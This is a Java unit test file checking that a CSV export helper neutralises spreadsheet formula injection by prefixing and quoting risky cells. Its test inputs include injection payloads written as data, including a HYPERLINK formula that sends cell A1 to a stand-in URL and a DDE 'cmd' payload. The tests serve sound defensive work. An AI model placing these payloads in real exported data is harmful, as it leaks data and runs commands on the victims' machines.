package com.luckify.report;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class CsvCellsTest {

    @Test
    void textThatASpreadsheetWouldRunGetsALeadingQuoteAndIsQuoted() {
        assertThat(CsvCells.text("=HYPERLINK(\"http://x\"&A1,\"x\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"x\"\")\"");
        assertThat(CsvCells.text("+SUM(1,2)")).isEqualTo("\"'+SUM(1,2)\"");
        assertThat(CsvCells.text("-2+3+cmd|' /C calc'!A0")).isEqualTo("\"'-2+3+cmd|' /C calc'!A0\"");
        assertThat(CsvCells.text("@SUM(A1)")).isEqualTo("\"'@SUM(A1)\"");
        assertThat(CsvCells.text("\t=1")).isEqualTo("\"'\t=1\"");
        assertThat(CsvCells.text("\r=1")).isEqualTo("\"'\r=1\"");
    }

    @Test
    void userTextThatLooksLikeANumberIsStillText() {
        assertThat(CsvCells.text("-5")).isEqualTo("\"'-5\"");
    }

    @Test
    void ordinaryTextIsQuotedOnlyWhenRfc4180NeedsIt() {
        assertThat(CsvCells.text("电饭煲")).isEqualTo("电饭煲");
        assertThat(CsvCells.text("a, b")).isEqualTo("\"a, b\"");
        assertThat(CsvCells.text("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
        assertThat(CsvCells.text("two\nlines")).isEqualTo("\"two\nlines\"");
        assertThat(CsvCells.text("a=b")).isEqualTo("a=b");
        assertThat(CsvCells.text(null)).isEmpty();
    }

    @Test
    void numbersTheProductWroteStayNumbers() {
        assertThat(CsvCells.number("-5")).isEqualTo("-5");
        assertThat(CsvCells.number("1,234")).isEqualTo("\"1,234\"");
    }
}
